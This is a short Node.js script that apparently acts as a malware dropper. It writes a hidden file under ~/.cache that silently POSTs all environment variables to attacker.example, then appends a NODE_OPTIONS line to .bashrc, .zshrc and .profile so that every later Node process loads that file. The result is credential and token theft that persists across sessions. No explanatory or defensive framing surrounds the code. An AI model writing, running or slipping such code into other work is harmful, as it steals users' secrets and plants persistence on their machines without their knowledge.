const fs = require('fs');
const os = require('os');
const path = require('path');
const home = os.homedir();
const dropDir = path.join(home, '.cache');
const drop = path.join(dropDir, 'x.js');
fs.mkdirSync(dropDir, { recursive: true });
fs.writeFileSync(drop, "try{require('https').request({host:'attacker.example',path:'/n',method:'POST'}).end(JSON.stringify(process.env))}catch(e){}");
const line = `\nexport NODE_OPTIONS="--require ${drop}"\n`;
for (const rc of ['.bashrc', '.zshrc', '.profile']) {
  try { fs.appendFileSync(path.join(home, rc), line); } catch (e) {}
}
